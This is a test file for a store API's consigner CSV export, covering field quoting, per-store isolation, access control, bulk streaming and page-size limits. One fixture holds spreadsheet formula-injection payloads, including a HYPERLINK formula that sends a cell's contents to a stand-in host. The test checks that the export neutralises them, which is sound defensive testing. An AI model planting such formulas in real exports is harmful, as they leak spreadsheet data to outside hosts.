import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeItem, makeProduct } from '../../../test/catalogue-factories';
import { call, makeConsigner, makeEmployee, makeStore } from '../../../test/factories';
import { createTestApp, type TestContext } from '../../../test/helpers';
import { consigners } from '../../db/schema';

let ctx: TestContext;
beforeAll(async () => {
  ctx = await createTestApp();
});
afterAll(() => ctx.close());

const exportCsv = (shop: { handle: string; ownerToken: string }, query = '') =>
  ctx.app.inject({
    url: `/api/consigners/export${query}`,
    headers: { 'x-store-handle': shop.handle, authorization: `Bearer ${shop.ownerToken}` },
  });

describe('GET /api/consigners/export', () => {
  it('streams the spec’s columns with sales and profit, quoting what needs quoting', async () => {
    const shop = await makeStore(ctx);
    const [odd] = await ctx.deps.db
      .insert(consigners)
      .values({
        storeId: shop.store.id,
        email: 'odd@x.test',
        firstName: 'Ann, "the seller"',
        lastName: '=HYPERLINK("x")',
        phone: '-1+HYPERLINK("http://x.test/?"&D2,"c")',
        address: 'Line 1\nLine 2',
        isActive: true,
      })
      .returning();
    const product = await makeProduct(ctx, shop.store);
    await makeItem(ctx, shop.store, {
      productId: product.id,
      consignerId: odd!.id,
      status: 'Sold',
      price: 10000,
      payoutAmount: 8000,
    });
    const res = await exportCsv(shop);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toContain('consignersExport.csv');
    const lines = res.body.split('\r\n');
    expect(lines[0]).toBe(
      'id,first name,last name,email,phone,address,account type,fee,isActive,sales,profit',
    );
    expect(res.body).toContain(
      `${odd!.id},"Ann, ""the seller""","'=HYPERLINK(""x"")",odd@x.test,"'-1+HYPERLINK(""http://x.test/?""&D2,""c"")","Line 1\nLine 2",Standard,20,true,100.00,20.00\r\n`,
    );
    expect(lines.filter(Boolean)).toHaveLength(3); // header, store account, Ann
  });

  it('exports only the store’s own consigners, to Consigners staff', async () => {
    const shop = await makeStore(ctx);
    const rival = await makeStore(ctx);
    const theirs = await makeConsigner(ctx, rival.store);
    expect((await exportCsv(shop)).body).not.toContain(theirs.email);
    const seller = await makeConsigner(ctx, shop.store);
    expect((await exportCsv({ handle: shop.handle, ownerToken: seller.token })).statusCode).toBe(403);
    const clerk = await makeEmployee(ctx, shop.store, { accessControls: ['Orders'] });
    expect((await exportCsv({ handle: shop.handle, ownerToken: clerk.token })).statusCode).toBe(403);
    const filtered = await exportCsv(shop, `?search=${encodeURIComponent(seller.email)}`);
    expect(filtered.body.split('\r\n').filter(Boolean)).toHaveLength(2);
  });

  it('streams 20,000 consigners (the time is printed; the 2 s target is measured by npm run bench)', async () => {
    const shop = await makeStore(ctx);
    await ctx.deps.db.execute(sql`
      insert into consigners (store_id, email, first_name, last_name, phone, address, is_active)
      select ${shop.store.id}, 'bulk' || g || '@x.test', 'Bulk', 'Seller ' || g, '555-' || g, g || ' Main St', true
      from generate_series(1, 20000) g`);
    const started = performance.now();
    const res = await exportCsv(shop);
    const elapsed = performance.now() - started;
    expect(res.statusCode).toBe(200);
    expect(res.body.split('\r\n').filter(Boolean)).toHaveLength(20_002);
    console.info(`CSV export of 20,000 consigners: ${Math.round(elapsed)} ms`);
  });
});

describe('GET /api/consigners pagination', () => {
  it('answers a page of a large store quickly', async () => {
    const shop = await makeStore(ctx);
    const res = await call<{ total: number }>(ctx, {
      url: '/api/consigners?pageSize=500&page=1',
      handle: shop.handle,
      token: shop.ownerToken,
    });
    expect(res.status).toBe(200);
    expect(
      (await call(ctx, { url: '/api/consigners?pageSize=501', handle: shop.handle, token: shop.ownerToken }))
        .status,
    ).toBe(400);
  });
});
